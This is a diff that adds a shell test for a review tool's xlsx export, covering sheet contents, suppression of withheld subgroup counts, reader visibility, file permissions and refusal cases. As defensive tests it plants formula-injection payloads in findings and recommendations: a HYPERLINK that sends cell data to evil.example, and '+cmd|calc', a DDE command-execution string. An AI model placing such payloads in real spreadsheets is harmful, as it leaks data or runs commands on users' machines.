@@ -1,0 +1,117 @@
+#!/bin/sh
+# workbook.sh: `qrel report -o data.xlsx`, the data workbook: unpacked (an xlsx is a zip), its
+# sheets hold the consensus levels, findings, recommendations, subgroup tables and agreement;
+# hostile text stays a string with one guard, never a formula; withheld counts are not in it;
+# a reader sees only what the visibility rule gives them; the path check and temp+rename hold.
+. "$(dirname "$0")/lib.sh"
+
+DB="$T/review.db"
+sample_db "$DB"
+LEAD=$(sql "$DB" "SELECT name FROM person WHERE role = 'lead'")
+PRINCIPAL=$(sql "$DB" "SELECT name FROM person WHERE role = 'principal' ORDER BY name LIMIT 1")
+
+# xlsx_dump BOOK DIR: each sheet as DIR/NAME.tsv (cells as the file holds them, strings
+# from the shared table); DIR/formulas counts the formula cells of every sheet.
+xlsx_dump() {
+	python3 - "$1" "$2" <<'PY'
+import os, re, sys, zipfile
+import xml.etree.ElementTree as ET
+ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
+z = zipfile.ZipFile(sys.argv[1]); out = sys.argv[2]; os.makedirs(out, exist_ok=True)
+shared = ["".join(t.text or "" for t in si.iter("{%s}t" % ns["m"]))
+          for si in ET.fromstring(z.read("xl/sharedStrings.xml")).findall("m:si", ns)]
+wb = ET.fromstring(z.read("xl/workbook.xml"))
+names = [s.get("name") for s in wb.find("m:sheets", ns)]
+formulas = 0
+for i, name in enumerate(names, 1):
+    root = ET.fromstring(z.read("xl/worksheets/sheet%d.xml" % i))
+    formulas += len(root.findall(".//m:f", ns))
+    with open(os.path.join(out, name + ".tsv"), "w") as f:
+        for row in root.iter("{%s}row" % ns["m"]):
+            cells = {}
+            for c in row.findall("m:c", ns):
+                col = re.match(r"[A-Z]+", c.get("r")).group(0)
+                idx = 0
+                for ch in col:
+                    idx = idx * 26 + ord(ch) - 64
+                v = c.find("m:v", ns)
+                text = "" if v is None else v.text
+                if c.get("t") == "s":
+                    text = shared[int(text)]
+                cells[idx] = text.replace("\t", " ").replace("\n", " | ")
+            width = max(cells) if cells else 0
+            f.write("\t".join(cells.get(k, "") for k in range(1, width + 1)) + "\n")
+open(os.path.join(out, "formulas"), "w").write("%d\n" % formulas)
+print(" ".join(names))
+PY
+}
+
+# Hostile text, as a reviewer could type it, in a finding and a recommendation.
+F=$("$QREL" findings add --db "$DB" --as "$LEAD" --kind growth --cluster 1.2 \
+	'=HYPERLINK("http://evil.example/?"&A1,"click")' | sed 's/finding //')
+"$QREL" recommendations add --db "$DB" --as "$LEAD" --title '+cmd|calc' --text '@SUM(1+1)' \
+	--stakeholders '-2+3' --finding "$F" --priority high >/dev/null
+
+OUT="$T/out/data.xlsx"
+mkdir -p "$T/out"
+check "report -o data.xlsx writes a workbook" "$QREL" report --db "$DB" --as "$LEAD" -o "$OUT"
+check "it is a zip with a workbook in it" python3 -m zipfile -t "$OUT"
+check "no temporary file is left beside it" test "$(ls "$T/out")" = data.xlsx
+check "written 0600" test "$(stat -c %a "$OUT")" = 600
+SHEETS=$(xlsx_dump "$OUT" "$T/x")
+check "sheets: About Scores Findings Recommendations Subgroups Agreement" \
+	test "$SHEETS" = "About Scores Findings Recommendations Subgroups Agreement"
+check "no formula cell anywhere" test "$(cat "$T/x/formulas")" = 0
+check "the hostile finding is a string with one guard" \
+	grep -qF "	'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")	" "$T/x/Findings.tsv"
+check "the recommendation's title, text and stakeholders too" \
+	grep -q "	'+cmd|calc	'@SUM(1+1)	'-2+3	$F\$" "$T/x/Recommendations.tsv"
+check "never two guards" sh -c "! grep -qF \"''\" '$T/x/Findings.tsv' '$T/x/Recommendations.tsv'"
+check "the status is on the About sheet" grep -q "^Status	DRAFT$" "$T/x/About.tsv"
+
+# Scores: consensus levels only, one row per site and cluster, as stored.
+EXPECT=$(sql "$DB" "SELECT s.code || '|' || c.code || '|' || CASE WHEN sc.insufficient THEN 'NE' ELSE sc.level END
+	FROM score sc JOIN site s ON s.id = sc.site_id JOIN cluster c ON c.id = sc.cluster_id
+	WHERE sc.kind = 'consensus' ORDER BY 1")
+GOT=$(awk -F'\t' 'NR > 1 && $6 != "" { print $1 "|" $4 "|" $6 }' "$T/x/Scores.tsv" | sort)
+check "Scores holds every consensus level and nothing else" test "$EXPECT" = "$GOT"
+check "with its level name" grep -q "	[1-4]	\(Beginning\|Developing\|Proficient\|Exemplary\|[A-Z][a-z]*\)" "$T/x/Scores.tsv"
+check "no team or self column" sh -c "! head -1 '$T/x/Scores.tsv' | grep -qi 'team\|self\|median'"
+
+# Subgroups: every withheld count is "*", and its raw count is nowhere in its row.
+WITHHELD=$(awk -F'\t' 'NR > 1 && $8 == "*"' "$T/x/Subgroups.tsv" | wc -l)
+check "some counts are withheld in the sample's tables" test "$WITHHELD" -gt 0
+LEAKS=0
+awk -F'\t' 'NR > 1 && $8 == "*" && $6 != "All students" { print $1 "\t" $2 "\t" $3 "\t" $6 }' "$T/x/Subgroups.tsv" >"$T/hidden"
+while IFS='	' read -r site year metric grp; do
+	raw=$(sql "$DB" "SELECT r.count FROM subgroup_row r JOIN site s ON s.id = r.site_id JOIN metric m ON m.id = r.metric_id
+		WHERE s.code = '$site' AND r.year = '$year' AND m.code = '$metric' AND r.grp = '$(printf %s "$grp" | sed "s/'/''/g")'")
+	[ -n "$raw" ] || { LEAKS=$((LEAKS + 1)); continue; }
+	for n in $raw; do
+		awk -F'\t' -v s="$site" -v y="$year" -v m="$metric" -v g="$grp" -v n="$n" \
+			'$1 == s && $2 == y && $3 == m && $6 == g { for (i = 8; i <= NF; i++) if ($i == n) bad = 1 } END { exit !bad }' \
+			"$T/x/Subgroups.tsv" && LEAKS=$((LEAKS + 1))
+	done
+done <"$T/hidden"
+check "no withheld count is in the workbook (checked $WITHHELD rows)" test "$LEAKS" = 0
+MIN=$(awk -F'\t' 'NR > 1 && $8 != "*" && $8 + 0 > 0 && $8 + 0 < 10' "$T/x/Subgroups.tsv" | wc -l)
+check "no shown count from 1 to min_display - 1" test "$MIN" = 0
+check "agreement for the whole review and per domain" grep -q "^all	All domains	" "$T/x/Agreement.tsv"
+
+# Visibility: a reader outside the team gets no finding, recommendation or level.
+check "a non-member's workbook" "$QREL" report --db "$DB" --as nobody -o "$T/out/nobody.xlsx"
+xlsx_dump "$T/out/nobody.xlsx" "$T/n" >/dev/null
+check "holds no consensus level" test "$(awk -F'\t' 'NR > 1 && $6 != ""' "$T/x/../n/Scores.tsv" | wc -l)" = 0
+check "no finding" test "$(wc -l <"$T/n/Findings.tsv")" = 1
+check "no recommendation" test "$(wc -l <"$T/n/Recommendations.tsv")" = 1
+check "a principal before release: no written finding" sh -c "'$QREL' report --db '$DB' --as '$PRINCIPAL' -o '$T/out/p.xlsx' &&
+	python3 -m zipfile -e '$T/out/p.xlsx' '$T/p' && ! grep -q 'evil.example' '$T/p/xl/sharedStrings.xml'"
+
+# Refusals: standard output, the database itself, and a failure leaves the old file.
+check "xlsx to standard output is refused" sh -c "! '$QREL' report --db '$DB' --as '$LEAD' --format xlsx >/dev/null 2>&1"
+check "the database is never the output" sh -c "! '$QREL' report --db '$DB' --as '$LEAD' -o '$DB' --format xlsx 2>/dev/null"
+check "and is still a database" test "$(sql "$DB" "SELECT count(*) FROM finding WHERE id = $F")" = 1
+check "--format xlsx with any name" "$QREL" report --db "$DB" --as "$LEAD" --format xlsx -o "$T/out/data.bin"
+check "is a workbook" python3 -m zipfile -t "$T/out/data.bin"
+
+finish
